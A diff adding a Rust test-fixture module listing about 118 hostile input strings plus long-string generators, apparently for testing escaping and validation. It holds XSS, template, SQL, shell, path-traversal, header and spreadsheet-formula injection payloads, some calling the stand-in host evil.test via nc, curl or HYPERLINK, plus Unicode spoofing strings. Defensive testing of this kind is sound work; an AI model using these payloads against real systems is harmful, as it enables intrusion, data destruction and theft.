@@ -1,0 +1,146 @@
+//! What nobody types who means well.
+
+/// Markup, scripts, styles, addresses, queries, templates, formulas, and letters that are not what
+/// they look like.
+pub(super) const TEXTS: [&str; 118] = [
+    // Tags.
+    "<script>alert(1)</script>",
+    "<ScRiPt>alert(1)</sCrIpT>",
+    "<script src=//evil.test/x.js></script>",
+    "<script/src=//evil.test></script>",
+    "<<script>alert(1)//<</script>",
+    "</script><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</option></select><img src=x onerror=alert(1)>",
+    "</pre></code></dd></dl><h1>Phishing</h1>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=\"x\" onerror=\"alert(1)\">",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert&#40;1&#41;</script>",
+    "<svg><animate onbegin=alert(1) attributeName=x>",
+    "<math><mi xlink:href=javascript:alert(1)>x",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<object data=data:text/html,x></object>",
+    "<embed src=//evil.test>",
+    "<base href=//evil.test/>",
+    "<meta http-equiv=refresh content='0;url=//evil.test'>",
+    "<link rel=stylesheet href=//evil.test/x.css>",
+    "<form action=//evil.test><input name=password>",
+    "<button formaction=//evil.test>Sign in</button>",
+    "<details open ontoggle=alert(1)>",
+    "<body onload=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    "<video><source onerror=alert(1)>",
+    "<a href=\"javascript:alert(1)\">click</a>",
+    "<a href=' javascript:alert(1)'>click</a>",
+    "<x-probe contenteditable onfocus=alert(1) autofocus>",
+    "<!--<img src=x onerror=alert(1)>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml version=\"1.0\"?><x/>",
+    "<%= 7*7 %>",
+    "<plaintext>",
+    "<style>*{display:none}</style>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    // Out of an attribute.
+    "\" onmouseover=\"alert(1)",
+    "' onmouseover='alert(1)",
+    "\" autofocus onfocus=alert(1) x=\"",
+    "\"><script>alert(1)</script>",
+    "'><img src=x onerror=alert(1)>",
+    "x\" style=\"background:url(//evil.test)",
+    "` onmouseover=`alert(1)`",
+    "\" data-live=\"//evil.test",
+    "\" data-copy=\"#other",
+    "&quot; onclick=&quot;alert(1)",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "\\\"><script>alert(1)</script>",
+    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
+    "\\u003cscript\\u003ealert(1)",
+    // Scripts and addresses.
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "java\tscript:alert(1)",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "vbscript:msgbox(1)",
+    "//evil.test/%2f..",
+    "https://evil.test@example.com/",
+    "http://127.0.0.1:1/?x=<y>",
+    "';alert(1);//",
+    "\";alert(1);//",
+    "${alert(1)}",
+    "expression(alert(1))",
+    "url(javascript:alert(1))",
+    // Templates.
+    "{{ 7*7 }}",
+    "{{ link }}{{ customer }}",
+    "{{ self }}{{ debug() }}",
+    "{{ customer.__class__.__mro__ }}",
+    "{% for a in [1,2] %}{{ a }}{% endfor %}",
+    "{% include '/etc/passwd' %}",
+    "{% macro x() %}{{ x() }}{% endmacro %}{{ x() }}",
+    "{# comment",
+    "{{",
+    "}}",
+    "{%",
+    "#{7*7}",
+    "*{7*7}",
+    "$(reboot)",
+    "`reboot`",
+    "; rm -rf ~ #",
+    "| nc evil.test 1",
+    "&& curl evil.test",
+    // Databases.
+    "' OR '1'='1",
+    "'; DROP TABLE customers; --",
+    "\" OR \"\"=\"",
+    "1) UNION SELECT password FROM staff --",
+    "%' ESCAPE '' OR 1=1 --",
+    "%",
+    "_",
+    "\\",
+    "%_%\\%",
+    // Paths, lines, headers.
+    "../../../../etc/passwd",
+    "..%2f..%2fetc%2fpasswd",
+    "..\\..\\windows\\win.ini",
+    "a\r\nSet-Cookie: onboarding=planted",
+    "a\r\n\r\n<script>alert(1)</script>",
+    "a\nBcc: everybody@evil.test",
+    "a?bcc=everybody@evil.test&body=x",
+    "a%0d%0aBcc:everybody",
+    // Formulas.
+    "=HYPERLINK(\"https://evil.test?x=\"&A1,\"Click\")",
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\u{ff1d}1+1",
+    "x;=1+1",
+    "x\",=1+1,\"",
+    // Letters.
+    "\0",
+    "a\0b",
+    "\u{202e}gpj.exe\u{202c}",
+    "\u{2066}a\u{2069}\u{200b}\u{feff}",
+    "Аcmе Ѕtоrеs \u{1f9e8}\u{200d}\u{1f468}\u{1f3fd}\u{fe0f}",
+    "a\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30a}",
+    "\u{fffd}\u{fffe}\u{e000}\u{10ffff}\u{2028}\u{2029}\u{85}",
+];
+
+/// Those, and some that are long.
+pub(super) fn all() -> Vec<String> {
+    let mut all: Vec<String> = TEXTS.iter().map(|text| (*text).to_owned()).collect();
+    all.push("A".repeat(120));
+    all.push("<".repeat(119) + "a");
+    all.push("日".repeat(120));
+    all.push("\u{1f9e8}".repeat(120));
+    all.push("_".repeat(2000));
+    all.push("\"'<>&".repeat(400));
+    all.push("W".repeat(10_000));
+    all.push("word ".repeat(400));
+    all
+}
